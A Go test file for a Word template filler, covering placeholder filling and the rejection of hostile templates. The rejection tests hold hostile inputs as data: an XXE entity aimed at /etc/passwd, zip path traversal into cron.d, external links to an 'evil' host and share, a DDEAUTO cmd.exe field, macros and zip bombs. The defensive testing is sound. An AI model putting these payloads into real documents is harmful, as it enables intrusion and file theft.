package paper

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"anwang/internal/fault"
)

const (
	testTypes = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	testRels  = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`
)

func documentOf(body string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><w:document ` + wordNS + `><w:body>` + body + `</w:body></w:document>`
}

// docxOf makes a package; a file of the same name takes the place of the usual one.
func docxOf(t *testing.T, body string, more ...file) []byte {
	t.Helper()
	files := []file{{"[Content_Types].xml", []byte(testTypes)}, {"word/document.xml", []byte(documentOf(body))}, {"word/_rels/document.xml.rels", []byte(testRels)}}
next:
	for _, m := range more {
		for i := range files {
			if files[i].name == m.name {
				files[i] = m
				continue next
			}
		}
		files = append(files, m)
	}
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, f := range files {
		w, err := z.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(f.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func partOf(t *testing.T, docx []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(docx), int64(len(docx)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func p(runs ...string) string {
	out := "<w:p>"
	for _, r := range runs {
		out += "<w:r><w:rPr><w:b/></w:rPr><w:t>" + r + "</w:t></w:r>"
	}
	return out + "</w:p>"
}

func TestATemplateIsFilledHoweverWordHasCutIt(t *testing.T) {
	fields := Fields{Words: map[string]string{"编号": "催办〔2026〕3号", "单位": "<script>alert(1)</script> & {{编号}} \u202eabc", "事由": "一\n二"},
		Rows: map[string][]map[string]string{"经过": {{"时间": "1日", "事项": "交办"}, {"时间": "2日", "事项": "签收"}}}}
	for name, c := range map[string]struct{ body, want string }{
		"whole":           {p("第{{编号}}号"), p("第催办〔2026〕3号号")},
		"with spaces":     {p("{{ 编号 }}"), p("催办〔2026〕3号")},
		"cut in two":      {p("第{{编", "号}}号"), p("第催办〔2026〕3号", "号")},
		"cut everywhere":  {p("{", "{", "编", "号", "}", "}。"), p("催办〔2026〕3号", "", "", "", "", "。")},
		"two in a run":    {p("{{编号}}、{{编号}}"), p("催办〔2026〕3号、催办〔2026〕3号")},
		"neutral":         {p("{{单位}}"), p("&lt;script&gt;alert(1)&lt;/script&gt; &amp; {{编号}} abc")},
		"lines":           {p("{{事由}}"), p(`一</w:t><w:br/><w:t xml:space="preserve">二`)},
		"a word missing":  {p("{{没有}}。"), p("。")},
		"a row each":      {"<w:tbl><w:tr>" + p("头{{编号}}") + "</w:tr><w:tr>" + p("{{经过.时间}}", "{{经", "过.事项}}") + "</w:tr></w:tbl>", "<w:tbl><w:tr>" + p("头催办〔2026〕3号") + "</w:tr><w:tr>" + p("1日", "交办", "") + "</w:tr><w:tr>" + p("2日", "签收", "") + "</w:tr></w:tbl>"},
		"a word in a row": {"<w:tbl><w:tr>" + p("{{编号}}{{经过.时间}}") + "</w:tr></w:tbl>", "<w:tbl><w:tr>" + p("催办〔2026〕3号1日") + "</w:tr><w:tr>" + p("催办〔2026〕3号2日") + "</w:tr></w:tbl>"},
		"a list of none":  {"<w:tbl><w:tr>" + p("{{无.甲}}") + "</w:tr></w:tbl>", "<w:tbl><w:tr>" + p("") + "</w:tr></w:tbl>"},
		"a text box":      {"<w:p><w:r><w:t>{{编</w:t><w:pict><w:txbxContent>" + p("{{编号}}") + "</w:txbxContent></w:pict><w:t>号}}</w:t></w:r></w:p>", "<w:p><w:r><w:t>催办〔2026〕3号</w:t><w:pict><w:txbxContent>" + p("催办〔2026〕3号") + "</w:txbxContent></w:pict><w:t></w:t></w:r></w:p>"},
	} {
		tpl, err := ReadTemplate(docxOf(t, c.body))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		out, err := tpl.Fill(fields)
		if err != nil {
			t.Fatal(err)
		}
		if got := partOf(t, out, "word/document.xml"); got != documentOf(c.want) {
			t.Errorf("%s:\n got %s\nwant %s", name, got, documentOf(c.want))
		}
		if again, _ := tpl.Fill(fields); !bytes.Equal(out, again) {
			t.Errorf("%s: the same fields gave other bytes", name)
		}
	}
}

func TestHeadersAreFilledToo(t *testing.T) {
	tpl, err := ReadTemplate(docxOf(t, p("正文"), file{"word/header1.xml", []byte(`<w:hdr ` + wordNS + `>` + p("{{编号}}") + `</w:hdr>`)}))
	if err != nil {
		t.Fatal(err)
	}
	out, _ := tpl.Fill(Fields{Words: map[string]string{"编号": "甲"}})
	if got := partOf(t, out, "word/header1.xml"); !strings.Contains(got, p("甲")) {
		t.Error(got)
	}
}

func TestHostileTemplatesAreRefusedInWords(t *testing.T) {
	rels := func(inner string) file {
		return file{"word/_rels/document.xml.rels", []byte(strings.Replace(testRels, "></Rel", ">"+inner+"</Rel", 1))}
	}
	raw := func(s string) file { return file{"word/document.xml", []byte(s)} }
	const ok = "<w:p><w:r><w:t>{{编号}}</w:t></w:r></w:p>"
	for name, c := range map[string]struct {
		docx []byte
		code string
	}{
		"no zip":              {[]byte("%PDF-1.7"), "paper.template_malformed"},
		"nothing":             {nil, "paper.template_malformed"},
		"the old kind":        {append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1}, make([]byte, 600)...), "paper.template_old"},
		"too large":           {make([]byte, TemplateMost+1), "paper.template_large"},
		"a bomb":              {docxOf(t, ok, file{"word/media/a.png", make([]byte, partMost+1)}), "paper.template_unfolds"},
		"many small bombs":    {docxOf(t, ok, file{"a/1.png", make([]byte, partMost-1)}, file{"a/2.png", make([]byte, partMost-1)}, file{"a/3.png", make([]byte, partMost-1)}, file{"a/4.png", make([]byte, partMost-1)}), "paper.template_unfolds"},
		"no document":         {docxOf(t, ok, raw("")), "paper.template_malformed"},
		"a broken document":   {docxOf(t, ok, raw("<w:document>")), "paper.template_malformed"},
		"UTF-16":              {docxOf(t, ok, raw("\xff\xfe<\x00")), "paper.template_malformed"},
		"an entity":           {docxOf(t, ok, raw(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`)), "paper.template_entities"},
		"an outer entity":     {docxOf(t, ok, raw(`<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>`)), "paper.template_entities"},
		"an entity of none":   {docxOf(t, "<w:p>&lol;</w:p>"), "paper.template_malformed"},
		"CDATA":               {docxOf(t, "<w:p><w:r><w:t><![CDATA[{{编号}}]]></w:t></w:r></w:p>"), "paper.template_malformed"},
		"a name outside":      {docxOf(t, ok, file{"../../etc/cron.d/x", []byte("x")}), "paper.template_malformed"},
		"a name from root":    {docxOf(t, ok, file{"/etc/passwd", []byte("x")}), "paper.template_malformed"},
		"a linked template":   {docxOf(t, ok, rels(`<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>`)), "paper.template_active"},
		"a linked picture":    {docxOf(t, ok, rels(`<Relationship Id="a" Type="http://x/image" Target="http://evil/x.png" TargetMode="External"/>`)), "paper.template_external"},
		"a hidden link":       {docxOf(t, ok, rels(`<Relationship Id="a" Type="http://x/image" Target="\\evil\share\x.png"/>`)), "paper.template_external"},
		"a link in VML":       {docxOf(t, `<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:v" src="http://evil/x.png"/></w:pict></w:r></w:p>`), "paper.template_external"},
		"another document":    {docxOf(t, ok, rels(`<Relationship Id="a" Type="http://x/aFChunk" Target="x.html"/>`)), "paper.template_active"},
		"a macro":             {docxOf(t, ok, file{"word/vbaProject.bin", []byte("x")}), "paper.template_active"},
		"a control":           {docxOf(t, ok, file{"word/activeX/activeX1.xml", []byte("<x/>")}), "paper.template_active"},
		"an object":           {docxOf(t, ok, file{"word/embeddings/Sheet1.xlsx", []byte("x")}), "paper.template_active"},
		"a document of macro": {docxOf(t, ok, file{"[Content_Types].xml", []byte(strings.Replace(testTypes, "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main", 1))}), "paper.template_active"},
		"DDE":                 {docxOf(t, `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe"/></w:p>`), "paper.template_field"},
		"DDE cut in pieces":   {docxOf(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), "paper.template_field"},
		"a file included":     {docxOf(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "\\\\evil\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>`), "paper.template_field"},
		"page numbers":        {docxOf(t, ok+`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), "ok"},
		"half a placeholder":  {docxOf(t, p("{{编号")), "paper.template_brace"},
		"a list in no row":    {docxOf(t, p("{{经过.时间}}")), "paper.placeholder_no_row"},
		"two lists in a row":  {docxOf(t, "<w:tbl><w:tr>"+p("{{经过.时间}}{{照片.说明}}")+"</w:tr></w:tbl>"), "paper.placeholder_no_row"},
		"too deep":            {docxOf(t, strings.Repeat("<w:sdt>", 300)+strings.Repeat("</w:sdt>", 300)), "paper.template_malformed"},
	} {
		_, err := ReadTemplate(c.docx)
		if c.code == "ok" {
			if err != nil {
				t.Errorf("%s: %v", name, err)
			}
			continue
		}
		f := fault.As(err)
		if f == nil || f.Code != c.code {
			t.Errorf("%s: %v, want %s", name, err, c.code)
			continue
		}
		if w := f.Words(); strings.ContainsAny(w, "{") && c.code != "paper.template_brace" || w == f.Code {
			t.Errorf("%s: the words are not whole: %s", name, w)
		}
	}
}

func TestAnUnknownPlaceholderIsNamed(t *testing.T) {
	tpl, err := ReadTemplate(docxOf(t, p("{{编号}}{{单位名称}}{{单位名字}}")))
	if err != nil {
		t.Fatal(err)
	}
	f := fault.As(tpl.Check([]string{"编号", "单位名称"}))
	if f == nil || f.Code != "paper.template_unknown" || len(f.Fields) != 1 || f.Fields[0].Args["name"] != "单位名字" {
		t.Errorf("%+v", f)
	}
	if err := tpl.Check([]string{"编号", "单位名称", "单位名字"}); err != nil {
		t.Error(err)
	}
	bare, _ := ReadTemplate(docxOf(t, p("没有")))
	if err := bare.Check(nil); fault.Code(err) != "paper.template_empty" {
		t.Error(err)
	}
}

func FuzzTemplatesNeverPanic(f *testing.F) {
	f.Add(`<w:p><w:r><w:t>{{编号}}</w:t></w:r></w:p>`)
	f.Add(`<w:tbl><w:tr><w:p><w:r><w:t>{{a.b}}</w:t></w:r></w:p></w:tr></w:tbl>`)
	f.Fuzz(func(t *testing.T, body string) {
		tpl, err := ReadTemplate(docxOf(t, body))
		if err != nil {
			return
		}
		out, err := tpl.Fill(Fields{Words: map[string]string{"编号": "<{{编号}}>"}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := readPart(file{"word/document.xml", []byte(partOf(t, out, "word/document.xml"))}); fault.Code(err) == "paper.template_malformed" {
			t.Errorf("what was whole is broken after filling: %q", body)
		}
	})
}
